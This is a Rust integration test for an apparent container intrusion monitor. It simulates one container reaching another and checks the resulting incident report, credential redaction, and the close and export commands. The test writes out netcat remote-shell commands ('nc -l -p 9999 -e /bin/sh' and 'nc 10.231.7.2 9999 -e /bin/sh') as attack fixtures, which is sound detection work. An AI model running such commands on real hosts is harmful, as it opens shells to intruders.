//! Incidents that are more than one container, and what a person does to them.

use std::process::Command;

use rustix::process::Signal;
use serde_json::Value;

use super::bed::{Bed, SOON};
use super::watch::IDLE;
use crate::support::wait_for;

/// Runs a program of the host.
#[track_caller]
fn host(program: &str, args: &[&str]) {
    let output = Command::new(program).args(args).output().unwrap();
    assert!(output.status.success(), "{program} {args:?}: {output:?}");
}

/// Connects the networks of two containers, which have none but loopback, with a cable.
#[track_caller]
fn connect(bed: &Bed, ends: [(&str, &str); 2]) {
    let pids = ends.map(|(name, _)| bed.ps(name).unwrap()[3].clone());
    let [a, b] = &pids;
    host("ip", &["link", "add", "eth0", "netns", a, "type", "veth", "peer", "eth0", "netns", b]);
    for (pid, (_, address)) in pids.iter().zip(ends) {
        let ip = |args: &[&str]| host("nsenter", &[&["-t", pid, "-n", "ip"][..], args].concat());
        ip(&["address", "add", address, "dev", "eth0"]);
        ip(&["link", "set", "eth0", "up"]);
    }
}

#[test]
fn a_step_from_container_to_container_is_one_incident() {
    let Some(bed) = Bed::new() else { return };
    let serve = format!("/bin/nc -l -p 9999 -e /bin/sh >/dev/null & {IDLE}");
    let db = bed.detach("db", &[], &serve);
    let web = bed.detach("web", &["--env", "DB_PASSWORD=hunter2"], IDLE);
    let other = bed.detach("other", &[], IDLE);
    connect(&bed, [("web", "10.231.7.1/24"), ("db", "10.231.7.2/24")]);
    let watch = bed.watch(&["--format", "json"]);

    let attack = "/bin/nc 10.231.7.2 9999 -e /bin/sh";
    let attack = bed.start(&["exec", "web", "--", "/bin/sh", "-c", attack]);
    let incident = wait_for("incident with both containers", SOON, || {
        let reaches = |id: &str, incident: &Value| {
            let reached = incident["reached"].as_array().map_or(&[][..], Vec::as_slice);
            incident["container"]["id"] == id || reached.iter().any(|c| c["id"] == id)
        };
        let looked_at =
            |incident: &Value| incident["blast"].as_array().is_some_and(|b| b.len() == 2);
        let all = bed.incidents();
        all.into_iter().find(|i| reaches(&web, i) && reaches(&db, i) && looked_at(i))
    });
    assert!(
        !incident.to_string().contains(&other)
            || incident["reached"].as_array().unwrap().len() == 1
    );
    let link = &incident["links"][0];
    assert_eq!(link["kind"], "connection", "{link}");
    assert!(link["detail"].as_str().unwrap().contains("10.231.7.2:9999"), "{link}");
    let of = |id: &str| {
        let blasts = incident["blast"].as_array().unwrap();
        blasts.iter().find(|blast| blast["container"] == id).unwrap()
    };
    let credentials = of(&web)["credentials"].to_string();
    assert!(
        credentials.contains("DB_PASSWORD") && !credentials.contains("hunter2"),
        "{credentials}"
    );
    for (id, peer) in [(&web, &db), (&db, &web)] {
        let blast = of(id);
        assert_eq!(blast["same_network"].as_array().unwrap().len(), 1, "{blast:#}");
        assert_eq!(blast["same_network"][0]["id"], **peer);
        // The third container runs the same image and is on no network of theirs.
        assert_eq!(blast["same_image"].as_array().unwrap().len(), 2, "{blast:#}");
        assert_eq!(blast["connections"][0]["peer"], **peer, "{blast:#}");
    }
    assert!(incident["score"]["value"].as_u64().unwrap() > 40, "{}", incident["score"]);

    // The running watch knows what a person says, and does not undo it.
    let id = incident["id"].as_str().unwrap();
    bed.run(&["respond", "note", id, "  "]).expect_error(2, "empty");
    bed.run(&["respond", "note", "INC-none", "x"]).expect_error(3, "no incident");
    bed.run(&["respond", "note", id, "called the owner"]).expect(0);
    bed.run(&["respond", "close", id, "--reason", "a drill"]).expect(0);
    let shown = wait_for("closed incident on the disk", SOON, || {
        let shown = bed.run(&["respond", "show", id]).expect(0).stdout;
        shown.contains("a drill").then_some(shown)
    });
    for expected in [
        "closed",
        "score ",
        "by connection: ",
        "stages ",
        "on its network  ",
        "credential      environment DB_PASSWORD",
        "called the owner",
    ] {
        assert!(shown.contains(expected), "`{expected}` is not in {shown}");
    }
    bed.run(&["respond", "export", id, "--output", "incident.json"]).expect(0);
    let text = std::fs::read_to_string(bed.path().join("incident.json")).unwrap();
    let export: Value = serde_json::from_str(&text).unwrap();
    let n_alerts = export["alerts"].as_array().unwrap().len();
    assert!(n_alerts >= 2 && export["n_alerts_gone"] == 0, "{n_alerts}");
    let csv = bed.run(&["respond", "export", id, "--form", "csv"]).expect(0).stdout;
    assert!(csv.lines().count() > n_alerts, "{csv}");
    let markdown = bed.run(&["respond", "export", id, "--form", "markdown"]).expect(0).stdout;
    assert!(markdown.starts_with("# Incident INC-"), "{markdown}");

    watch.signal(Signal::TERM);
    let ended = watch.wait(SOON).expect(0);
    assert!(!ended.stderr.contains("warning"), "{}", ended.stderr);
    for name in ["web", "db", "other"] {
        bed.run(&["stop", name]).expect(0);
    }
    drop(attack);
    for id in [&web, &db, &other] {
        bed.expect_nothing_left(id);
    }
}
